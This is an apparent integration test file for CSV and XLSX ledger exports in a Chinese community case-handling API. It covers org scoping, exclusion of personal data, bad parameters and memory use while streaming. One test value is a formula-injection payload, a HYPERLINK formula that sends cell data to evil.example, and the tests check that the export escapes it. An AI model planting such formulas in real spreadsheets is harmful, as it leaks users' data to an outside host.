import { Readable } from 'node:stream';
import v8 from 'node:v8';
import { runInNewContext } from 'node:vm';
import ExcelJS from 'exceljs';
import { parseCsv } from '../../common/csv';
import type { TestApp } from '../support/harness';
import { startTestApp, testConfig } from '../support/harness';
import { rebuildRollups } from '../../activities/metric-rollups';

/**
 * Ledger exports (台账) through the API on FerretDB: cases as CSV and XLSX (parsed back with
 * exceljs's reader), a formula-injection row, org scope (a dispatcher of another street gets none
 * of the first street's cases), bad parameters named, and a ledger of {@link BIG} cases streamed
 * in bounded memory. Cases are written straight into the read model with insertMany: test data,
 * no workflow needed (the API runs in this process, so its memory is sampled here).
 */

/** Chosen: 20,000 cases, inserted in batches of 1,000 (FerretDB on SQLite: ~10-20 s). */
const BIG = 20_000;
const BATCH = 1_000;
/**
 * Chosen: the live heap (measured after a full collection, every 2 s while the ledger streams)
 * may grow at most 40 MB while a 20,000-case ledger is written: only a page of 1,000 cases and
 * the writers' buffers are live. A whole workbook of the same rows, built below as the control,
 * keeps about 150 MB live, and more with every row. Garbage V8 has not collected yet is not
 * counted: sampled without collecting, the peak swung between 40 and 117 MB from run to run.
 */
const HEAP_BOUND = 40 * 1024 * 1024;

/** A full collection before each baseline, so garbage of earlier tests does not count. */
v8.setFlagsFromString('--expose-gc');
const collect = runInNewContext('gc') as () => void;

const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';

let app: TestApp;
let streetB: string;

function caseDoc(id: string, unitId: string, at: Date, extra: Record<string, unknown> = {}) {
  return {
    _id: id,
    revision: 3,
    status: 'closed',
    definitionKey: 'ledger-order',
    definitionVersion: 1,
    definitionName: '台账测试诉求',
    currentStep: null,
    // Personal data the ledger must never carry.
    data: { contactName: '张三', contactPhone: '13800000000', description: '楼道灯不亮' },
    createdBy: { kind: 'user', id: 'usr_test' },
    unitId,
    category: 'lighting',
    channel: 'api',
    requestHash: 'x'.repeat(64),
    createdAt: at,
    updatedAt: at,
    closedAt: new Date(at.getTime() + 3_600_000),
    timeline: [],
    deadlines: [],
    // As the projection keeps them (common/case-measures.ts): a closed case is dispatched, due,
    // completed and resolved.
    metrics: {
      received: 1,
      dispatched: 1,
      accepted: 1,
      respondedInTime: 1,
      completed: 1,
      due: 1,
      resolved: 1,
      completedOnTime: 1,
      rejected: 0,
      overdue: 0,
      escalated: 0,
      escalations: 0,
      returned: 0,
      rated: 0,
      ratingScore: 0,
      satisfied: 0,
      ratingMissing: 0,
      responseMinutes: 5,
      handlingMinutes: 60,
      month: '2026-11',
    },
    ...extra,
  };
}

async function download(path: string, token: string): Promise<{ res: Response; body: Buffer }> {
  const res = await fetch(`${app.api.url}${path}`, {
    headers: { authorization: `Bearer ${token}` },
  });
  return { res, body: Buffer.from(await res.arrayBuffer()) };
}

async function xlsxRows(file: Buffer): Promise<unknown[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(file as unknown as ArrayBuffer);
  const rows: unknown[][] = [];
  workbook.worksheets[0]!.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

beforeAll(async () => {
  // The 20,000-case export measures memory, not latency: on a loaded two-core machine its scan
  // once outran the 15 s store timeout (a 503), so this file gives the store a minute (chosen).
  app = await startTestApp('ledgers', {
    worker: false,
    config: testConfig('ledgers', { STORE_CALL_TIMEOUT_MS: '60000' }),
  });
  const imported = await app.http('POST', '/api/v1/org/import', {
    token: app.adminKey,
    body: {
      units: [
        { id: 'lg-a', name: '甲街道', type: 'street', parentId: null },
        { id: 'lg-a1', name: '甲一社区', type: 'community', parentId: 'lg-a' },
        { id: 'lg-b', name: '乙街道', type: 'street', parentId: null },
        { id: 'lg-b1', name: '乙一社区', type: 'community', parentId: 'lg-b' },
        { id: 'lg-big', name: '大社区', type: 'community', parentId: null },
      ],
      people: [],
      posts: [],
    },
  });
  expect(imported.status).toBe(200);
  streetB = await app.signIn('lg-disp-b', ['dispatcher'], ['lg-b']);
  const at = new Date('2026-11-02T01:00:00Z');
  await app.db.models.Case.insertMany([
    caseDoc('case-a00000000000000000000001', 'lg-a1', at),
    caseDoc('case-a00000000000000000000002', 'lg-a1', at, { category: FORMULA }),
    caseDoc('case-a00000000000000000000003', 'lg-a', at, { status: 'open', closedAt: null }),
    caseDoc('case-b00000000000000000000001', 'lg-b1', at),
  ]);
  // Written straight into the read model, past the projection: the rebuild sums them into the
  // metric roll-ups (and marks them complete), so the reports below read the roll-ups.
  await rebuildRollups(app.db.models);
});

afterAll(async () => {
  await app?.stop();
});

describe('ledger exports', () => {
  it("when an admin exports a street's cases as CSV, then every case is a row, the formula is inert and no personal data is in it", async () => {
    const { res, body } = await download(
      '/api/v1/exports/cases?format=csv&unitId=lg-a',
      app.adminKey,
    );
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="cases-\d{4}-\d{2}-\d{2}\.csv"; filename\*=UTF-8''%E6%A1%88/,
    );
    const text = body.toString('utf8');
    expect(text.startsWith('\uFEFF案件编号,')).toBe(true);
    expect(text).not.toMatch(/张三|13800000000|楼道灯/);
    const rows = parseCsv(text).map((r) => r.fields);
    expect(rows.slice(1).map((r) => r[0])).toEqual([
      'case-a00000000000000000000001',
      'case-a00000000000000000000002',
      'case-a00000000000000000000003',
    ]);
    const header = rows[0]!;
    const row = rows[2]!;
    expect(row[header.indexOf('类别')]).toBe(`'${FORMULA}`);
    expect(row[header.indexOf('单位')]).toBe('甲一社区');
    expect(row[header.indexOf('受理时间')]).toBe('2026-11-02 09:00:00');
    expect(row[header.indexOf('办理分钟')]).toBe('60');
  });

  it('when the same ledger is exported as XLSX, then it parses back with the same rows and the formula is a string', async () => {
    const { res, body } = await download(
      '/api/v1/exports/cases?format=xlsx&unitId=lg-a&status=closed',
      app.adminKey,
    );
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    const rows = await xlsxRows(body);
    expect(rows).toHaveLength(3);
    expect(rows[0]![0]).toBe('案件编号');
    const category = (rows[0] as string[]).indexOf('类别');
    expect(rows[2]![category]).toBe(`'${FORMULA}`);
    expect(rows[1]![(rows[0] as string[]).indexOf('版本')]).toBe(1);
  });

  it("when a dispatcher of another street exports, then none of the first street's cases are in it", async () => {
    const { res, body } = await download('/api/v1/exports/cases?format=csv', streetB);
    expect(res.status).toBe(200);
    const ids = parseCsv(body.toString('utf8'))
      .slice(1)
      .map((r) => r.fields[0]);
    expect(ids).toEqual(['case-b00000000000000000000001']);
    const other = await app.http('GET', '/api/v1/exports/cases?format=csv&unitId=lg-a', {
      token: streetB,
    });
    expect(other.status).toBe(404);
  });

  it('when a task is exported, then its row names the assignee by account id and the missed deadline', async () => {
    await app.db.models.Task.create({
      _id: 'task-lg-1',
      version: 1,
      caseId: 'case-a00000000000000000000001',
      definitionKey: 'ledger-order',
      caseUnitId: 'lg-a1',
      stepId: 'serve',
      name: '+办理',
      kind: 'task',
      status: 'completed',
      assigneeUserId: 'usr_lg',
      maxClaimants: 1,
      outcome: 'resolved',
      deadlines: [{ key: 'task-lg-1/due', dueAt: '2026-11-02T02:00:00.000Z', missed: true }],
      openedAt: new Date('2026-11-02T01:00:00Z'),
      closedAt: new Date('2026-11-02T03:00:00Z'),
    });
    const { res, body } = await download('/api/v1/exports/tasks?format=csv', app.adminKey);
    expect(res.status).toBe(200);
    const [header, ...rows] = parseCsv(body.toString('utf8')).map((r) => r.fields);
    expect(rows).toHaveLength(1);
    const cell = (name: string) => rows[0]![header!.indexOf(name)];
    expect(cell('环节')).toBe("'+办理");
    expect(cell('办理人账号')).toBe('usr_lg');
    expect(cell('时限')).toBe('2026-11-02 10:00:00');
    expect(cell('超时')).toBe('是');
    const other = await download('/api/v1/exports/tasks?format=csv', streetB);
    expect(parseCsv(other.body.toString('utf8'))).toHaveLength(1);
  });

  it('when the console link of the case list is followed, then the same ledger comes with its filters', async () => {
    const res = await fetch(
      `${app.api.url}/console/exports/cases?format=csv&status=open&process=ledger-order`,
      { headers: { cookie: `gf_session=${streetB}` }, redirect: 'manual' },
    );
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toContain('filename*=UTF-8');
    // Street B has one closed case and no open one: only the header.
    expect(parseCsv(await res.text())).toHaveLength(1);
    const admin = await app.signIn('lg-admin', ['admin'], []);
    const all = await fetch(`${app.api.url}/console/exports/cases?format=xlsx&status=open`, {
      headers: { cookie: `gf_session=${admin}` },
      redirect: 'manual',
    });
    const rows = await xlsxRows(Buffer.from(await all.arrayBuffer()));
    expect(rows.slice(1).map((r) => r[0])).toEqual(['case-a00000000000000000000003']);
  });

  it("when metrics, a ranking and the points ledger are exported, then their rows are the reports'", async () => {
    const metrics = await download(
      '/api/v1/exports/metrics?format=csv&unitId=lg-a&period=2026-11',
      app.adminKey,
    );
    expect(metrics.res.status).toBe(200);
    const [mHeader, ...mRows] = parseCsv(metrics.body.toString('utf8')).map((r) => r.fields);
    const received = mHeader!.indexOf('受理数');
    expect(mRows.map((r) => [r[0], r[received]])).toEqual([
      ['lg-a', '3'],
      ['lg-a1', '2'],
    ]);

    const ranking = await download(
      '/api/v1/exports/ranking?format=xlsx&unitId=lg-a&period=2026-11',
      app.adminKey,
    );
    const rRows = await xlsxRows(ranking.body);
    expect(rRows[0]!.slice(0, 3)).toEqual(['名次', '单位编号', '单位']);
    expect(rRows.slice(1).map((r) => r.slice(0, 3))).toEqual([[1, 'lg-a1', '甲一社区']]);

    await app.db.models.Person.create({ _id: 'lg-p1', name: '党员甲', updatedAt: new Date() });
    await app.db.models.PointsEntry.create({
      _id: 'pt-lg-1',
      personId: 'lg-p1',
      kind: 'earn',
      delta: 5,
      reason: '@服务',
      unitId: 'lg-a1',
      communityId: 'lg-a1',
      homeUnitIds: ['lg-a1'],
      at: new Date('2026-11-03T02:00:00Z'),
      by: { kind: 'system', id: 'test' },
    });
    const points = await download(
      '/api/v1/exports/points?format=csv&unitId=lg-a&period=2026-11',
      app.adminKey,
    );
    const [pHeader, ...pRows] = parseCsv(points.body.toString('utf8')).map((r) => r.fields);
    expect(pRows).toHaveLength(1);
    const cell = (name: string) => pRows[0]![pHeader!.indexOf(name)];
    expect([cell('积分'), cell('事由'), cell('姓名'), cell('社区')]).toEqual([
      '5',
      "'@服务",
      '党员甲',
      '甲一社区',
    ]);
    const outside = await app.http('GET', '/api/v1/exports/points?format=csv&unitId=lg-a', {
      token: streetB,
    });
    expect(outside.status).toBe(404);
  });

  it('when a parameter is bad, then 400 names it', async () => {
    const res = await app.http<{ error: { details: Array<{ path: string }> } }>(
      'GET',
      '/api/v1/exports/cases?format=pdf&status=lost',
      { token: app.adminKey },
    );
    expect(res.status).toBe(400);
    expect(res.body.error.details.map((d) => d.path).sort()).toEqual([
      'query.format',
      'query.status',
    ]);
  });

  it(`when ${BIG} cases are exported as XLSX and CSV, then the heap stays within the chosen bound`, async () => {
    const { Case } = app.db.models;
    const start = Date.parse('2026-01-01T00:00:00Z');
    for (let b = 0; b < BIG; b += BATCH) {
      const docs = Array.from({ length: BATCH }, (_, i) => {
        const n = b + i;
        return caseDoc(
          `case-c${String(n).padStart(23, '0')}`,
          'lg-big',
          new Date(start + n * 60_000),
          { definitionName: `台账测试诉求，第${n}号，含“引号”与逗号` },
        );
      });
      await Case.insertMany(docs, { ordered: false, lean: true });
    }

    const sample = async (format: 'csv' | 'xlsx') => {
      collect();
      const base = process.memoryUsage().heapUsed;
      let peak = base;
      // What is live, not what is waiting for collection: a full collection before each sample.
      let samples = 0;
      const timer = setInterval(() => {
        collect();
        peak = Math.max(peak, process.memoryUsage().heapUsed);
        samples++;
      }, 2_000);
      const res = await fetch(
        `${app.api.url}/api/v1/exports/cases?format=${format}&unitId=lg-big`,
        {
          headers: { authorization: `Bearer ${app.adminKey}` },
        },
      );
      expect(res.status).toBe(200);
      const chunks: Buffer[] = [];
      let lines = 0;
      try {
        for await (const chunk of res.body as unknown as AsyncIterable<Uint8Array>) {
          const buf = Buffer.from(chunk);
          if (format === 'csv') {
            for (const byte of buf) if (byte === 10) lines++;
          } else chunks.push(buf);
        }
      } finally {
        clearInterval(timer);
      }
      // Sampled while it streamed (or the bound proves nothing).
      expect(samples).toBeGreaterThanOrEqual(2);
      return { growth: peak - base, lines, file: Buffer.concat(chunks) };
    };

    const csv = await sample('csv');
    expect(csv.lines).toBe(BIG + 1);
    const xlsx = await sample('xlsx');
    // The file is read back with the streaming reader: row count only.
    const reader = new ExcelJS.stream.xlsx.WorkbookReader(Readable.from([xlsx.file]), {
      sharedStrings: 'ignore',
      styles: 'ignore',
      hyperlinks: 'ignore',
      worksheets: 'emit',
    });
    let rows = 0;
    let last: unknown = null;
    for await (const sheet of reader) {
      for await (const row of sheet) {
        rows++;
        last = row;
      }
    }
    expect(last).not.toBeNull();
    expect(rows).toBe(BIG + 1);

    // The control: the same rows built as one in-memory workbook, as a non-streaming export would.
    collect();
    const before = process.memoryUsage().heapUsed;
    const whole = new ExcelJS.Workbook();
    const sheet = whole.addWorksheet('x');
    for (let n = 0; n < BIG; n++) {
      sheet.addRow([
        `case-c${String(n).padStart(23, '0')}`,
        'ledger-order',
        `台账测试诉求，第${n}号，含“引号”与逗号`,
        ...Array.from({ length: 27 }, (_, i) => (i % 3 === 0 ? '否' : i)),
      ]);
    }
    collect();
    const wholeGrowth = process.memoryUsage().heapUsed - before;
    expect(sheet.rowCount).toBe(BIG); // keeps the workbook live until measured
    const mb = (n: number) => `${(n / 1048576).toFixed(1)} MB`;
    console.log(
      `ledger of ${BIG} cases: heap growth csv ${mb(csv.growth)}, xlsx ${mb(xlsx.growth)}, whole workbook ${mb(wholeGrowth)}, xlsx file ${mb(xlsx.file.length)}`,
    );
    expect(wholeGrowth).toBeGreaterThan(HEAP_BOUND);
    expect(csv.growth).toBeLessThan(HEAP_BOUND);
    expect(xlsx.growth).toBeLessThan(HEAP_BOUND);
  }, 180_000);
});
